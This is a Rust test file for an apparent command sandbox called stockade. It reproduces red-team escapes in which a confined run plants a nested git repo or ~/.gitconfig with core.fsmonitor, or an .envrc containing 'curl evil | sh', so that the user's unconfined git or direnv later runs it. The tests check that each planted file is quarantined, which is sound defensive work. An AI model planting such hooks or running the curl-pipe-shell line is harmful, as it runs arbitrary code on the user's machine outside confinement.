//! What a confined run creates that the host later runs, under names that
//! did not exist before the run (so nothing bound or identified before it
//! could hold them), is set aside once the run's tree has ended: a nested
//! repository staged as a gitlink, a protect-list name (`~/.gitconfig`,
//! `.envrc`). The exploit runs for real through `stockade exec` on both
//! backends, as root and (when we are root, as in CI) as `nobody`; then the
//! user's own git runs for real, unconfined, with a marker that shows
//! whether anything planted ran.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design

use std::ffi::OsStr;
use std::fs;
use std::path::Path;

use stockade_testkit::users::users;

mod common;
use common::*;

/// What every line of the audit says, once per entry set aside.
const MOVED: &str = "was moved aside to";
const QUARANTINE: &str = ".stockade-quarantine-";

/// The names in `dir` that are quarantined entries, as the directory
/// holds them (they are opened afterwards).
fn quarantined(dir: &Path) -> Vec<std::ffi::OsString> {
    fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .filter(|n| {
            n.as_encoded_bytes()
                .windows(QUARANTINE.len())
                .any(|w| w == QUARANTINE.as_bytes())
        })
        .collect()
}

/// The red team's second exploit: a nested repository made by the run
/// (not under `.git/modules`, which is read-only), with `core.fsmonitor`,
/// staged in the workspace's index as a gitlink (the index stays writable
/// for commits). The user's next `git status` recursed into it and ran the
/// monitor unconfined. Now its `.git` is set aside after the run, said so,
/// and nothing planted runs.
#[test]
fn a_nested_repo_the_run_stages_as_a_gitlink_is_set_aside() {
    let base = base();
    for who in users() {
        for backend in backends() {
            let home = owned_dir(&base, "home-", who);
            let ws = repo(&base, who, home.path());
            let marker = home.path().join("fsmonitor-ran");
            let attack = format!(
                "{mon}; g() {{ git -c user.name=t -c user.email=t@t \"$@\"; }}; \
                 g init -q evil && g -C evil config core.fsmonitor \"$PWD/mon.sh\" && \
                 g -C evil commit -q --allow-empty -m e && \
                 g update-index --add --cacheinfo 160000,$(g -C evil rev-parse HEAD),evil && \
                 git ls-files -s evil | grep -q ^160000",
                mon = marker_script(&marker)
            );
            let out = exec(who, home.path(), None, backend, ws.path(), &[], &attack);
            let stderr = text(&out.stderr);
            assert!(
                out.status.success(),
                "{who:?} {backend}: the attack itself failed: {stderr}"
            );
            let _ = fs::remove_file(&marker);
            assert!(
                !ws.path().join("evil/.git").exists(),
                "{who:?} {backend}: the nested repo was left in place"
            );
            let aside = quarantined(&ws.path().join("evil"));
            assert_eq!(aside.len(), 1, "{who:?} {backend}: {aside:?}");
            assert!(
                stderr.contains(&format!("{}/evil/.git {MOVED}", ws.path().display())),
                "{who:?} {backend}: not reported: {stderr}"
            );
            // The user's real `git status`, unconfined, afterwards.
            let st = user_git(who, home.path(), None, ws.path(), &["status"]);
            ok(&st);
            assert!(
                !marker.exists(),
                "{who:?} {backend}: the planted fsmonitor ran at the user's git status"
            );
        }
    }
}

/// A nested repository the user staged before the run is left alone by a
/// run that does not touch it; a run that makes its configuration name a
/// program has it set aside.
#[test]
fn a_users_own_nested_repo_is_left_alone_unless_the_run_reconfigures_it() {
    let base = base();
    for who in users() {
        for backend in backends() {
            let home = owned_dir(&base, "home-", who);
            let ws = repo(&base, who, home.path());
            let sub = ws.path().join("sub");
            fs::create_dir(&sub).unwrap();
            who.own(&sub);
            init(who, home.path(), &sub);
            let head = text(&user_git(who, home.path(), None, &sub, &["rev-parse", "HEAD"]).stdout);
            ok(&user_git(
                who,
                home.path(),
                None,
                ws.path(),
                &[
                    "update-index",
                    "--add",
                    "--cacheinfo",
                    &format!("160000,{},sub", head.trim()),
                ],
            ));
            let out = exec(
                who,
                home.path(),
                None,
                backend,
                ws.path(),
                &[],
                "echo a > a && git add a && git -C sub log -1 --format=%s",
            );
            assert_eq!(text(&out.stdout).trim(), "one", "{}", text(&out.stderr));
            assert!(
                !text(&out.stderr).contains(MOVED),
                "{who:?} {backend}: {}",
                text(&out.stderr)
            );
            assert!(sub.join(".git").is_dir(), "{who:?} {backend}");
            assert!(quarantined(&sub).is_empty());
            // Now the run names a program in its configuration.
            let marker = home.path().join("fsmonitor-ran");
            let attack = format!(
                "{}; git -C sub config core.fsmonitor \"$PWD/mon.sh\"",
                marker_script(&marker)
            );
            let out = exec(who, home.path(), None, backend, ws.path(), &[], &attack);
            ok(&out);
            assert!(
                text(&out.stderr).contains(MOVED),
                "{who:?} {backend}: {}",
                text(&out.stderr)
            );
            assert!(!sub.join(".git").exists(), "{who:?} {backend}");
            let st = user_git(who, home.path(), None, ws.path(), &["status"]);
            ok(&st);
            assert!(
                !marker.exists(),
                "{who:?} {backend}: the fsmonitor the run configured ran at the user's git status"
            );
        }
    }
}

/// `~/.gitconfig` did not exist and `$HOME` is the workspace: a run that
/// creates it with `core.fsmonitor` has it set aside, and the user's next
/// `git status` (in any repository) runs nothing planted.
#[test]
fn a_global_gitconfig_the_run_creates_is_set_aside() {
    let base = base();
    for who in users() {
        for backend in backends() {
            let home = owned_dir(&base, "home-", who);
            let h = home.path();
            let global = h.join(".gitconfig");
            let proj = h.join("proj");
            fs::create_dir(&proj).unwrap();
            who.own(&proj);
            init(who, h, &proj);
            let marker = h.join("fsmonitor-ran");
            let attack = format!(
                "{}; printf '[core]\\n\\tfsmonitor = %s/mon.sh\\n' \"$PWD\" > .gitconfig",
                marker_script(&marker)
            );
            // The proxy's socket may not lie in the writable home.
            let runtime = owned_dir(&base, "run-", who);
            let out = exec_command(who, h, Some(&global), backend, h, &[], &attack)
                .env("XDG_RUNTIME_DIR", runtime.path())
                .output()
                .unwrap();
            ok(&out);
            assert!(!global.exists(), "{who:?} {backend}: ~/.gitconfig was left");
            assert!(
                text(&out.stderr).contains(&format!("{} {MOVED}", global.display())),
                "{who:?} {backend}: {}",
                text(&out.stderr)
            );
            let st = user_git(who, h, Some(&global), &proj, &["status"]);
            ok(&st);
            assert!(
                !marker.exists(),
                "{who:?} {backend}: the fsmonitor in the planted ~/.gitconfig ran"
            );
        }
    }
}

/// An `.envrc` the run creates (direnv runs it on entering the directory)
/// is set aside and reported; one that existed stays (and stays as it was).
#[test]
fn an_envrc_the_run_creates_is_set_aside_and_reported() {
    let base = base();
    for who in users() {
        for backend in backends() {
            let home = owned_dir(&base, "home-", who);
            let ws = repo(&base, who, home.path());
            let p = ws.path();
            fs::create_dir(p.join("old")).unwrap();
            fs::write(p.join("old/.envrc"), "export A=1\n").unwrap();
            who.own(&p.join("old"));
            who.own(&p.join("old/.envrc"));
            let out = exec(
                who,
                home.path(),
                None,
                backend,
                p,
                &[],
                "echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo done",
            );
            assert_eq!(text(&out.stdout).trim(), "done", "{}", text(&out.stderr));
            let stderr = text(&out.stderr);
            for name in [".envrc", ".vscode"] {
                assert!(!p.join(name).exists(), "{who:?} {backend}: {name} left");
                assert!(
                    stderr.contains(&format!("{}/{name} {MOVED}", p.display())),
                    "{who:?} {backend}: {stderr}"
                );
            }
            let aside = quarantined(p);
            assert_eq!(aside.len(), 2, "{aside:?}");
            let envrc = aside
                .iter()
                .find(|n| n.as_encoded_bytes().starts_with(b".envrc."))
                .unwrap();
            assert_eq!(
                fs::read_to_string(p.join(envrc)).unwrap(),
                "curl evil | sh\n",
                "nothing is lost"
            );
            // A protect name below the roots' top is not on the list: an
            // existing one there is the user's.
            assert_eq!(
                fs::read_to_string(p.join("old/.envrc")).unwrap(),
                "export A=1\n"
            );
            // The JSON result carries the fact too.
            let mut c = as_user(
                who,
                OsStr::new(env!("CARGO_BIN_EXE_stockade")),
                home.path(),
                None,
            );
            c.args([
                "exec",
                "--json",
                "--backend",
                backend,
                "--mode",
                "workspace-write",
            ])
            .arg("--workspace")
            .arg(p)
            .args(["--", "/bin/sh", "-c", "echo x > .mcp.json"])
            .current_dir(p);
            let out = c.output().unwrap();
            let json = text(&out.stdout);
            assert!(
                json.contains("\"protected-name\"") && json.contains(".mcp.json"),
                "{who:?} {backend}: {json}"
            );
            assert!(!p.join(".mcp.json").exists());
        }
    }
}
